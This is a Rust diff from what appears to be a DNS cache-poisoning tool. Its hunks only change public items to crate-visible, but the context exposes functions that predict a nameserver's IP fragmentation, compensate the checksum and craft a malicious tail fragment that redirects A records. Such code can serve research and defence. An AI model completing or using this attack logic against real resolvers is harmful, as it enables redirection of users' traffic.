@@ -25,7 +25,7 @@ use std::net::Ipv4Addr;
 
 /// Location of one resource record inside an encoded DNS message.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct RecordSpan {
+pub(crate) struct RecordSpan {
     /// The record's owner name.
     pub owner: DomainName,
     /// Byte offset of the owner name.
@@ -44,7 +44,7 @@ pub struct RecordSpan {
 
 /// Walks an encoded DNS message and returns the byte spans of every record in
 /// the answer, authority and additional sections.
-pub fn record_spans(msg: &[u8]) -> Option<Vec<RecordSpan>> {
+pub(crate) fn record_spans(msg: &[u8]) -> Option<Vec<RecordSpan>> {
     if msg.len() < 12 {
         return None;
     }
@@ -86,7 +86,7 @@ pub fn record_spans(msg: &[u8]) -> Option<Vec<RecordSpan>> {
 }
 
 /// The 16-bit one's-complement folded sum of a byte slice (word-aligned).
-pub fn folded_sum(data: &[u8]) -> u16 {
+pub(crate) fn folded_sum(data: &[u8]) -> u16 {
     let mut c = Checksum::new();
     c.add_bytes(data);
     c.folded()
@@ -119,7 +119,7 @@ fn compensation_word(tail: &[u8], rel: usize, target: u16) -> Option<u16> {
 /// How the nameserver will fragment a UDP datagram of `udp_payload_len`
 /// (UDP header + DNS payload) for a path MTU of `mtu`: returns the byte
 /// ranges (within the IP payload) of each fragment.
-pub fn fragment_layout(udp_payload_len: usize, mtu: u16) -> Vec<(usize, usize)> {
+pub(crate) fn fragment_layout(udp_payload_len: usize, mtu: u16) -> Vec<(usize, usize)> {
     let chunk = (usize::from(mtu) - IPV4_HEADER_LEN) & !7;
     assert!(chunk >= 8, "MTU too small");
     let mut out = Vec::new();
@@ -134,7 +134,7 @@ pub fn fragment_layout(udp_payload_len: usize, mtu: u16) -> Vec<(usize, usize)> 
 
 /// Result of crafting a malicious tail.
 #[derive(Debug, Clone)]
-pub struct CraftedTail {
+pub(crate) struct CraftedTail {
     /// The malicious bytes replacing the genuine IP-payload tail
     /// (everything after the first fragment).
     pub bytes: Vec<u8>,
@@ -159,7 +159,7 @@ pub struct CraftedTail {
 ///
 /// Returns `None` when the response would not fragment at this MTU or when no
 /// A record falls in the tail (nothing to redirect).
-pub fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr) -> Option<CraftedTail> {
+pub(crate) fn craft_malicious_tail(dns_bytes: &[u8], mtu: u16, malicious_addr: Ipv4Addr) -> Option<CraftedTail> {
     let udp_payload_len = UDP_HEADER_LEN + dns_bytes.len();
     let layout = fragment_layout(udp_payload_len, mtu);
     if layout.len() < 2 {
